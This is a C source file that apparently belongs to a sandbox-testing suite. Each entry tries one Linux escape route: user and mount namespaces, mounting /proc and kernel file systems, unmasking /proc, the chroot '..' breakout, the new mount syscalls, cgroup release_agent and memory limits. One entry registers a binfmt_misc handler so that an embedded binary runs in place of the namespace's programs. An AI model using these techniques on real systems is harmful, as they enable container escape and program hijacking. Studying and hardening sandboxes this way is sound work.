/* Namespaces, mounts and cgroups: the ways by which sandboxes are made, and have been left. Each in a child, for it changes where a process is. */
#include "attack.h"
#include <fcntl.h>
#include <linux/mount.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

int mount(const char *, const char *, const char *, unsigned long, const void *); /* its header and linux/mount.h exclude each other */
int umount2(const char *, int);
enum { DETACH = 2 };

static int unshared(int kind) { return unshare(kind) == 0 ? done("a namespace") : -1; }
ATTACK(new_user, "make a user namespace", 5) { return unshared(CLONE_NEWUSER); }
ATTACK(clone_user, "make a process in a user namespace of its own", 5) {
    long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (pid == 0) _exit(0);
    return pid > 0 ? done("process %ld", pid) : -1;
}
ATTACK(clone3_user, "make such a process by clone3", 5) {
    struct clone_args arguments = {.flags = CLONE_NEWUSER, .exit_signal = SIGCHLD};
    long pid = syscall(SYS_clone3, &arguments, sizeof arguments);
    if (pid == 0) _exit(0);
    return pid > 0 ? done("process %ld", pid) : -1;
}
ATTACK(new_mounts, "make a mount namespace", 5) { return unshared(CLONE_NEWNS); }
ATTACK(new_network, "make a network namespace", 5) { return unshared(CLONE_NEWNET); }
ATTACK(new_pids, "make a pid namespace", 5) { return unshared(CLONE_NEWPID); }
ATTACK(new_ipc, "make an IPC namespace", 5) { return unshared(CLONE_NEWIPC); }
ATTACK(new_time, "make a time namespace", 5) { return unshared(CLONE_NEWTIME); }
ATTACK(new_cgroup, "make a cgroup namespace", 5) { return unshared(CLONE_NEWCGROUP); }

int mounted(const char *kind) {
    char target[64];
    snprintf(target, sizeof target, "/tmp/mounted-%s", kind);
    mkdir(target, 0700);
    return mount(kind, target, kind, 0, NULL) == 0 ? done("mounted %s", kind) : -1;
}
ATTACK(mount_memory, "mount a file system in memory", 5) { return mounted("tmpfs"); }
ATTACK(mount_proc, "mount a /proc that nothing is hidden in", 5) { return mounted("proc"); }
ATTACK(mount_disk, "mount a disk", 5) { return ANY(mounted, "ext4", "btrfs", "xfs", "erofs", "squashfs"); }
ATTACK(mount_kernel, "mount a file system of the kernel", 5) { return ANY(mounted, "sysfs", "debugfs", "tracefs", "securityfs", "bpf", "configfs", "pstore", "hugetlbfs", "mqueue"); }
ATTACK(mount_overlay, "mount an overlay over a directory", 5) {
    mkdir("/tmp/upper", 0700), mkdir("/tmp/work", 0700), mkdir("/tmp/over", 0700);
    return mount("overlay", "/tmp/over", "overlay", 0, "lowerdir=/usr,upperdir=/tmp/upper,workdir=/tmp/work,userxattr") == 0 ? done("an overlay") : -1;
}
ATTACK(bind_hidden, "mount over what is hidden in /proc", 5) { return mount("/proc/self", "/proc/kcore", NULL, MS_BIND, NULL) == 0 || mount("/etc", "/proc/acpi", NULL, MS_BIND, NULL) == 0 ? done("a mount") : -1; }
ATTACK(unmount, "take a mount away and see what is below", 5) { return umount2("/proc/kcore", DETACH) == 0 || umount2("/tmp", DETACH) == 0 ? done("it is away") : -1; }
ATTACK(pivot, "change its root directory by pivot_root", 5) {
    if (chdir("/tmp") != 0) return -1;
    return syscall(SYS_pivot_root, ".", ".") == 0 || errno == EINVAL ? done("the kernel considers it") : -1;
}
ATTACK(chroot_out, "leave a root directory by chroot", 5) {
    mkdir("/tmp/jail", 0700);
    if (chroot("/tmp/jail") != 0) return -1;
    for (int i = 0; i < 64; i++)
        if (chdir("..") != 0) return -1;
    return chroot(".") == 0 ? done("a root directory of its choice") : -1;
}
CALL(open_fs, "configure a file system by fsopen", syscall(SYS_fsopen, "tmpfs", 0))
CALL(pick_fs, "reconfigure a mounted file system by fspick", syscall(SYS_fspick, AT_FDCWD, "/tmp", 0))
CALL(copy_mounts, "copy a tree of mounts by open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", OPEN_TREE_CLONE | 0x8000))
ATTACK(move_mounts, "move a mount by move_mount", 5) { return made(syscall(SYS_move_mount, AT_FDCWD, "/usr", AT_FDCWD, "/tmp", 0)); }
CALL(change_mounts, "change a mount by mount_setattr", syscall(SYS_mount_setattr, AT_FDCWD, "/", 0, &(struct mount_attr){.attr_clr = MOUNT_ATTR_RDONLY}, sizeof(struct mount_attr)))

/* From then on the kernel runs the taker instead of every program of the same user namespace that is position-independent, as nearly all are
 * and the taker is not. It has opened the taker (F), so that the file need not be where those programs are. */
__asm__(".section .rodata\ntaker: .incbin \"" TAKER "\"\ntaker_end:\n.previous\n");
extern const char taker[], taker_end[];
int take_programs(const char *name) {
    char path[64], rule[96];
    snprintf(path, sizeof path, "/tmp/%s", name);
    snprintf(rule, sizeof rule, ":attack:M:16:\\x03\\x00::%s:F", path);
    unlink(path); /* what the kernel has opened to run it, nobody may write */
    int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
    if (fd < 0) return -1;
    ssize_t n = write(fd, taker, (size_t)(taker_end - taker));
    close(fd);
    if (n != taker_end - taker || mounted("binfmt_misc") != 0 || (fd = open("/tmp/mounted-binfmt_misc/register", O_WRONLY | O_CLOEXEC)) < 0) return -1;
    n = write(fd, rule, strlen(rule));
    close(fd);
    return n == (ssize_t)strlen(rule) ? done("registered a format") : -1;
}
ATTACK(own_programs, "take over the programs of its user namespace", 5) { return take_programs("taker"); }
ATTACK(host_name, "change the name of the host", 5) { return sethostname("attack", 6) == 0 ? done("it has another name") : -1; }

static int release_agent(const char *kind) {
    char path[64];
    if (mounted(kind) != 0) return -1;
    snprintf(path, sizeof path, "/tmp/mounted-%s/release_agent", kind);
    return can_write(path);
}
ATTACK(release, "have the host run a program when a cgroup is empty", 5) { return mount("cgroup", "/tmp", "cgroup", 0, "memory") == 0 ? can_write("/tmp/release_agent") : ANY(release_agent, "cgroup"); }
static int cgroup_of(const char *kind) {
    char path[64];
    if (mounted(kind) != 0) return -1;
    snprintf(path, sizeof path, "/tmp/mounted-%s/cgroup.procs", kind);
    return can_write(path);
}
ATTACK(move_cgroup, "move to another cgroup", 5) { return ANY(cgroup_of, "cgroup2", "cgroup"); }
static int memory_limit(const char *path) { return strstr(path, "memory.max") || strstr(path, "memory.limit_in_bytes") ? can_write(path) : -1; }
ATTACK(loosen_memory, "loosen its limit of memory", 0) { return below("/sys/fs/cgroup", memory_limit); }
